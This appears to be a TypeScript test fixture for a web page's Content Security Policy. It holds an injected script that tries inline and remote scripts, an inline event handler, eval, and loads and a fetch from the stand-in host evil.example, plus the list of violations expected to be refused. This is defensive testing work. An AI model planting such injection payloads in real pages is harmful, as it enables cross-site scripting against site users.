/**
 * Scripts to run in a page, as somebody would who has got markup of their own into it: each way to act or
 * to reach the network is tried, and `refused` says what of it the page's policy has stopped so far.
 */
export const INJECT = `(() => {
  globalThis.refused = [];
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
    globalThis.refused.push(effectiveDirective + ' ' + blockedURI.replace(/^https?:\\/\\/([^/]+).*/, '$1')));
  const script = document.createElement('script');
  script.textContent = "globalThis.hacked = 'script'";
  const far = document.createElement('script');
  far.src = 'https://evil.example/script.js';
  const markup = document.createElement('div');
  markup.innerHTML = '<img src="https://evil.example/image.png"><iframe src="https://evil.example/"></iframe>' +
    '<b onclick="globalThis.hacked = 1"></b><style>* { display: none }</style>' +
    '<link rel="stylesheet" href="https://evil.example/style.css">';
  document.body.append(script, far, markup);
  markup.querySelector('b').click();
  fetch('https://evil.example/').catch(() => {});
  // Not at once: whoever runs this may be allowed to evaluate text, as a debugger is.
  setTimeout(() => { (0, eval)("globalThis.hacked = 'eval'"); });
  setTimeout(() => { new Function("globalThis.hacked = 'function'")(); });
})()`;

/** What has to be refused, sorted, each once. */
export const TO_REFUSE: readonly string[] = [
  'connect-src evil.example',
  'frame-src evil.example',
  'img-src evil.example',
  'script-src eval',
  'script-src-attr inline',
  'script-src-elem evil.example',
  'script-src-elem inline',
  'style-src-elem evil.example',
  'style-src-elem inline',
];

/** What was refused so far, sorted, each once. */
export const REFUSED = '[...new Set(globalThis.refused)].sort()';
/** Whether anything of it ran, as a string: `undefined` where nothing did. */
export const HACKED = 'String(globalThis.hacked)';
